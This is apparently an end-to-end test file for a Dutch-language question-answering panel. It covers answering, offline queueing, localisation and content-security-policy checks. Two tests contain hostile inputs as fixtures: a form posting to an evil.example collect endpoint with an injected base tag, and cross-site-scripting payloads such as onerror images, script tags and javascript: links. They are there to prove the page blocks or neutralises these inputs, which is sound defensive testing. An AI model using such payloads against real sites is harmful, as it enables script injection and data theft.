// The panel in real Chromium against a real core and a real PostgreSQL: what the user sees and what
// their answers do to the database. Screenshots of the main states go to test-artifacts/panel/.
import { readFile } from 'node:fs/promises'
import path from 'node:path'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { answerOf, insertQuestion, type QuestionFields, type World } from '../test/support/fixtures'
import { withClient } from '../test/support/pg-client'
import { openPgPanel, type PgPanelOptions, type Seed } from './testing/pg-panel'
import { setUpRendererSuite } from './testing/renderer-suite'

const MINUTE_MS = 60_000

const suite = setUpRendererSuite('panel')

const setup = (options?: PgPanelOptions) => openPgPanel(suite, options)

function ago(minutes: number): Date {
  return new Date(Date.now() - minutes * MINUTE_MS)
}

function fromNow(minutes: number): Date {
  return new Date(Date.now() + minutes * MINUTE_MS)
}

function ask(url: string, world: World, fields: Partial<QuestionFields>): Promise<string> {
  return insertQuestion(url, { productId: world.products.alpha, askedBy: world.users.ann, ...fields })
}

function card(page: Page, text: string) {
  return page.locator('.question-card').filter({ hasText: text })
}

/** A small, realistic board: Alpha with two stories and bob's idea, Beta with a free-text question. */
const seedBoard: Seed = async (url, world) => {
  await ask(url, world, {
    storyId: world.stories.st101,
    question: 'Moet de inloglink 15 of 60 minuten geldig blijven?',
    options: ['15 minuten', '60 minuten', 'Laat het mij weten'],
    createdAt: ago(50),
    expiresAt: fromNow(190),
  })
  await ask(url, world, {
    storyId: world.stories.st102,
    question: 'Mag de resetmail ook een code bevatten in plaats van alleen een link?',
    createdAt: ago(20),
  })
  await ask(url, world, {
    ideaId: world.ideas.bobsIdea,
    question: 'Welk palet voor de donkere modus: de systeemkleuren of ons eigen palet?',
    options: ['Systeemkleuren', 'Eigen palet'],
    createdAt: ago(5),
    expiresAt: fromNow(40),
  })
  await ask(url, world, {
    productId: world.products.beta,
    storyId: world.stories.st201,
    question: 'Welk scheidingsteken wil je in de CSV-export?',
    options: null,
    createdAt: ago(90),
  })
}

describe('panel', () => {
  it('ships the page with its CSP, and the page runs under it without a violation', async () => {
    const html = await readFile(path.join(suite.buildDir, 'index.html'), 'utf8')
    expect(html).toContain(
      `content="default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'none'; base-uri 'none'; form-action 'none'"`,
    )
    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=/)
    const { page, errors } = await setup()
    await page.locator('.empty-state').waitFor()
    // The styles applied: the CSP let the stylesheet through.
    expect(await page.evaluate(() => getComputedStyle(document.body).fontSize)).toBe('13px')
    expect(errors).toEqual([])
  })

  it('lets neither a <base> nor a form send the page or its data elsewhere', async () => {
    const { page, errors } = await setup()
    await page.locator('.empty-state').waitFor()
    const pageUrl = page.url()
    const result = await page.evaluate(
      () =>
        new Promise<{ baseUri: string; violated: string[] }>((resolve) => {
          const violated: string[] = []
          // Were the form allowed, the page would navigate away and this evaluate would fail.
          document.addEventListener('securitypolicyviolation', (event) => {
            violated.push(event.effectiveDirective)
            if (event.effectiveDirective === 'form-action') resolve({ baseUri: document.baseURI, violated })
          })
          const base = document.createElement('base')
          base.href = 'https://evil.example/'
          document.head.append(base)
          const form = document.createElement('form')
          form.method = 'post'
          form.action = 'https://evil.example/collect'
          document.body.append(form)
          form.submit()
        }),
    )
    expect(result.baseUri).toBe(pageUrl)
    expect(result.violated).toEqual(['base-uri', 'form-action'])
    expect(page.url()).toBe(pageUrl)
    // Chromium reports each refusal on the console too.
    expect(errors).toEqual([expect.stringContaining('base-uri'), expect.stringContaining('form-action')])
  })

  it('groups the open questions by product and topic, newest first, and shows a new one live', async () => {
    const { url, world, page, errors } = await setup({ seed: seedBoard })
    await expect.poll(() => page.locator('.question-card').count()).toBe(4)
    expect(await page.locator('.product-name').allTextContents()).toEqual(['Alpha', 'Beta'])
    const alphaTopics = page.locator('.product-group').first().locator('.topic-heading')
    expect(await alphaTopics.allTextContents()).toEqual([
      'IdeaID-7Donkere modus',
      'ST-102Wachtwoord vergeten',
      'ST-101Inloggen met e-mail',
    ])
    expect(await card(page, 'inloglink').locator('.expiry').textContent()).toBe('expires in 3 h')
    expect(await card(page, 'donkere modus').locator('.expiry').textContent()).toMatch(
      /^expires in (39|40) min$/,
    )
    expect(await page.locator('.status-feed').textContent()).toBe('Connected')
    expect(await page.locator('.status-synced').textContent()).toMatch(/^last synced \d\d:\d\d$/)
    // pg mode has no web app address, so no link to it either.
    expect(await page.getByRole('button', { name: 'Open in Scrum4Me' }).count()).toBe(0)

    await ask(url, world, {
      productId: world.products.beta,
      storyId: world.stories.st201,
      question: 'Mogen lege kolommen uit de export?',
    })
    await card(page, 'lege kolommen').waitFor()
    expect(await page.locator('.product-name').allTextContents()).toEqual(['Beta', 'Alpha'])
    expect(await page.locator('.panel-count').textContent()).toBe('5 open')
    expect(errors).toEqual([])
  })

  it('answers by click and by pressing a number key; both reach the database', async () => {
    let older = ''
    let newer = ''
    const { url, page, bridge, errors } = await setup({
      seed: async (url, world) => {
        older = await ask(url, world, {
          storyId: world.stories.st101,
          question: 'Oudere vraag?',
          createdAt: ago(10),
        })
        newer = await ask(url, world, {
          storyId: world.stories.st102,
          question: 'Nieuwere vraag?',
          options: ['Optie A', 'Optie B', 'Optie C'],
          createdAt: ago(1),
        })
      },
    })
    // The newest question has the keyboard as soon as the panel opens.
    await expect
      .poll(() => page.evaluate(() => document.activeElement?.textContent ?? ''))
      .toContain('Nieuwere vraag?')
    await page.keyboard.press('1')
    await expect.poll(() => answerOf(url, newer)).toEqual({ status: 'answered', answer: 'Optie A' })
    await card(page, 'Nieuwere vraag?').locator('.answer-status.is-answered').waitFor()
    expect(await card(page, 'Nieuwere vraag?').locator('.option.is-chosen').textContent()).toBe('1Optie A')

    await page.keyboard.press('ArrowDown')
    await expect
      .poll(() => page.evaluate(() => document.activeElement?.textContent ?? ''))
      .toContain('Oudere vraag?')
    await card(page, 'Oudere vraag?').getByRole('button', { name: 'Nee' }).click()
    await expect.poll(() => answerOf(url, older)).toEqual({ status: 'answered', answer: 'Nee' })
    await card(page, 'Oudere vraag?').locator('.answer-status.is-answered').waitFor()
    expect(bridge.state().questions.map((item) => item.progress?.state)).toEqual(['answered', 'answered'])
    expect(errors).toEqual([])
  })

  it('sends free text with Enter; Shift+Enter adds a line', async () => {
    let id = ''
    const { url, page, errors } = await setup({
      seed: async (url, world) => {
        id = await ask(url, world, {
          storyId: world.stories.st101,
          question: 'Welke naam krijgt de job?',
          options: null,
        })
      },
    })
    const box = page.getByRole('textbox', { name: 'Your answer' })
    await box.click()
    await box.pressSequentially('nightly-')
    await page.keyboard.press('Shift+Enter')
    await box.pressSequentially('export')
    await page.keyboard.press('Enter')
    await expect.poll(() => answerOf(url, id)).toEqual({ status: 'answered', answer: 'nightly-\nexport' })
    await page.locator('.answer-status.is-answered').waitFor()
    expect(await page.locator('.answer-value').textContent()).toBe('nightly-\nexport')
    expect(errors).toEqual([])
  })

  it('offline: shows the banner, keeps the cached list usable, queues the answer and sends it once back', async () => {
    let id = ''
    const { url, core, page, bridge, errors } = await setup({
      seed: async (url, world) => {
        await seedBoard(url, world)
        id = await ask(url, world, { storyId: world.stories.st102, question: 'Offline beantwoord?' })
      },
    })
    core.setOnline(false)
    await page.locator('.offline-banner').waitFor()
    expect(await page.locator('.offline-title').textContent()).toBe('Offline')
    expect(await page.locator('.status-dot').getAttribute('class')).toContain('is-off')
    expect(await page.locator('.question-card').count()).toBe(5)

    await card(page, 'Offline beantwoord?').getByRole('button', { name: 'Ja' }).click()
    await card(page, 'Offline beantwoord?').locator('.answer-status.is-queued').waitFor()
    expect(await card(page, 'Offline beantwoord?').locator('.answer-verdict').textContent()).toBe(
      'Queued: sent when you are back online',
    )
    expect(await answerOf(url, id)).toEqual({ status: 'open', answer: null })
    await suite.screenshot(page, 'offline-light-en')
    await page.emulateMedia({ colorScheme: 'dark' })
    await bridge.setLocale('nl')
    expect(await page.locator('.offline-title').textContent()).toBe('Offline')
    expect(await page.locator('.answer-verdict').first().textContent()).toBe(
      'In de wachtrij: wordt verstuurd zodra je weer online bent',
    )
    await suite.screenshot(page, 'offline-dark-nl')

    await page.getByRole('button', { name: 'Nu opnieuw verbinden' }).click()
    await expect.poll(() => bridge.calls.reconnectNow).toBe(1)
    core.setOnline(true)
    await expect
      .poll(() => answerOf(url, id), { timeout: 15_000 })
      .toEqual({ status: 'answered', answer: 'Ja' })
    await card(page, 'Offline beantwoord?').locator('.answer-status.is-answered').waitFor()
    await page.locator('.offline-banner').waitFor({ state: 'detached' })
    expect(errors).toEqual([])
  })

  it('shows why an answer was refused: answered elsewhere while this one waited offline', async () => {
    let id = ''
    const { url, world, core, page, errors } = await setup({
      seed: async (url, world) => {
        id = await ask(url, world, { storyId: world.stories.st101, question: 'Al elders beantwoord?' })
      },
    })
    core.setOnline(false)
    await page.locator('.offline-banner').waitFor()
    await card(page, 'Al elders beantwoord?').getByRole('button', { name: 'Ja' }).click()
    await card(page, 'Al elders beantwoord?').locator('.answer-status.is-queued').waitFor()
    await withClient(url, (client) =>
      client.query(
        `UPDATE claude_questions SET status = 'answered', answer = 'Nee', answered_by = $2 WHERE id = $1`,
        [id, world.users.ann],
      ),
    )
    core.setOnline(true)
    const status = card(page, 'Al elders beantwoord?').locator('.answer-status.is-refused')
    await status.waitFor({ timeout: 15_000 })
    expect(await status.textContent()).toBe(
      'Not accepted This question is no longer open.The question was already answered.',
    )
    // Trying again cannot help: the options stay disabled.
    expect(await card(page, 'Al elders beantwoord?').getByRole('button', { name: 'Ja' }).isDisabled()).toBe(
      true,
    )
    expect(await answerOf(url, id)).toEqual({ status: 'answered', answer: 'Nee' })
    await suite.screenshot(page, 'refused-light-en')
    expect(errors).toEqual([])
  })

  it('renders hostile question text as inert text: markup, javascript: links, 4000 chars, RTL', async () => {
    const markup = '<img src=x onerror=window.__pwned=1> <script>window.__pwned=2</script>'
    const link = 'Zie javascript:alert(1) of <a href="javascript:alert(1)">klik hier</a>'
    const long = `${'Lange uitleg zonder einde. '.repeat(148)}EINDE`.slice(0, 4000)
    const rtl = 'هل نستخدم قاعدة البيانات الجديدة؟ (ST-101)'
    const { page, errors } = await setup({
      seed: async (url, world) => {
        await withClient(url, (client) =>
          client.query(`UPDATE products SET name = $2 WHERE id = $1`, [
            world.products.alpha,
            '<b onmouseover=window.__pwned=3>Alpha</b>',
          ]),
        )
        await ask(url, world, {
          storyId: world.stories.st101,
          question: markup,
          options: ['<img src=x onerror=window.__pwned=4>', 'javascript:alert(1)'],
          createdAt: ago(4),
        })
        await ask(url, world, { storyId: world.stories.st101, question: link, createdAt: ago(3) })
        await ask(url, world, { storyId: world.stories.st102, question: long, createdAt: ago(2) })
        await ask(url, world, {
          storyId: world.stories.st102,
          question: rtl,
          options: null,
          createdAt: ago(1),
        })
      },
    })
    await expect.poll(() => page.locator('.question-card').count()).toBe(4)
    expect(await page.locator('.question-text').allTextContents()).toEqual(
      expect.arrayContaining([markup, link, long, rtl]),
    )
    expect(await page.locator('.product-name').textContent()).toBe(
      '<b onmouseover=window.__pwned=3>Alpha</b>',
    )
    expect(await page.getByRole('button', { name: 'javascript:alert(1)' }).count()).toBe(1)
    // Nothing became an element: no image, script, link or bold anywhere in the page body.
    expect(await page.locator('body img, body script, body a, body b').count()).toBe(0)
    await page.locator('.product-name').hover()
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined()

    await suite.screenshot(page, 'hostile-light-en')

    const longText = card(page, 'Lange uitleg').locator('.question-text')
    expect(await longText.getAttribute('class')).toContain('is-folded')
    expect(await longText.evaluate((element) => element.scrollHeight > element.clientHeight)).toBe(true)
    await card(page, 'Lange uitleg').getByRole('button', { name: 'Show more' }).click()
    expect(await longText.getAttribute('class')).not.toContain('is-folded')
    const showLess = card(page, 'Lange uitleg').getByRole('button', { name: 'Show less' })
    expect(await showLess.getAttribute('aria-expanded')).toBe('true')
    await showLess.click()

    const rtlText = card(page, 'قاعدة').locator('.question-text')
    expect(await rtlText.getAttribute('dir')).toBe('auto')
    expect(await rtlText.evaluate((element) => getComputedStyle(element).direction)).toBe('rtl')
    expect(errors).toEqual([])
  })

  it('keyboard: ↑/↓ move, Esc hides, a toast click focuses its question; the web app opens by id', async () => {
    const ids: string[] = []
    const { page, bridge, errors, world } = await setup({
      webAppUrl: 'https://scrum4me.example',
      seed: async (url, world) => {
        for (const [index, minutes] of [30, 20, 10].entries()) {
          ids.push(
            await ask(url, world, {
              storyId: world.stories.st101,
              question: `Vraag ${index}`,
              createdAt: ago(minutes),
            }),
          )
        }
      },
    })
    const focusedText = () =>
      page.evaluate(() => document.activeElement?.querySelector('.question-text')?.textContent)
    await expect.poll(focusedText).toBe('Vraag 2')
    await page.keyboard.press('ArrowUp')
    expect(await focusedText()).toBe('Vraag 2')
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('ArrowDown')
    expect(await focusedText()).toBe('Vraag 0')
    await page.keyboard.press('ArrowDown')
    expect(await focusedText()).toBe('Vraag 0')
    expect(await page.locator('.question-card[tabindex="0"]').count()).toBe(1)

    await bridge.focusQuestion(ids[1] ?? '')
    await expect.poll(focusedText).toBe('Vraag 1')

    await card(page, 'Vraag 1').getByRole('button', { name: 'Open in Scrum4Me' }).click()
    await expect.poll(() => bridge.calls.openInWebApp).toEqual([ids[1]])
    expect(bridge.calls.openedExternally).toEqual([`https://scrum4me.example/stories/${world.stories.st101}`])

    await page.keyboard.press('Escape')
    await expect.poll(() => bridge.calls.hide).toBe(1)
    // A key with a modifier belongs to the system, not to the panel.
    await page.keyboard.press('Control+1')
    expect(bridge.state().questions.every((item) => item.progress === null)).toBe(true)
    expect(errors).toEqual([])
  })

  it('follows state.locale, and looks right in light and dark (screenshots)', async () => {
    const { page, bridge, errors } = await setup({ seed: seedBoard, webAppUrl: 'https://scrum4me.example' })
    await expect.poll(() => page.locator('.question-card').count()).toBe(4)
    await card(page, 'resetmail').getByRole('button', { name: 'Ja' }).click()
    await card(page, 'resetmail').locator('.answer-status.is-answered').waitFor()
    await page.locator('.question-card').first().focus()
    await suite.screenshot(page, 'list-light-en')

    await bridge.setLocale('nl')
    expect(await page.locator('.panel-title').textContent()).toBe('Open vragen')
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('nl')
    expect(await card(page, 'inloglink').locator('.expiry').textContent()).toBe('verloopt over 3 u')
    expect(await page.locator('.status-feed').textContent()).toBe('Verbonden')
    await page.emulateMedia({ colorScheme: 'dark' })
    await suite.screenshot(page, 'list-dark-nl')
    expect(errors).toEqual([])
  })

  it('shows an empty state (screenshots in both languages and themes)', async () => {
    const { page, bridge, errors } = await setup({ locale: 'nl' })
    await page.locator('.empty-state').waitFor()
    expect(await page.locator('.empty-title').textContent()).toBe('Geen open vragen')
    await suite.screenshot(page, 'empty-light-nl')
    await bridge.setLocale('en')
    await page.emulateMedia({ colorScheme: 'dark' })
    expect(await page.locator('.empty-title').textContent()).toBe('No open questions')
    await suite.screenshot(page, 'empty-dark-en')
    // Esc works without any card to focus.
    await page.keyboard.press('Escape')
    await expect.poll(() => bridge.calls.hide).toBe(1)
    expect(errors).toEqual([])
  })
})
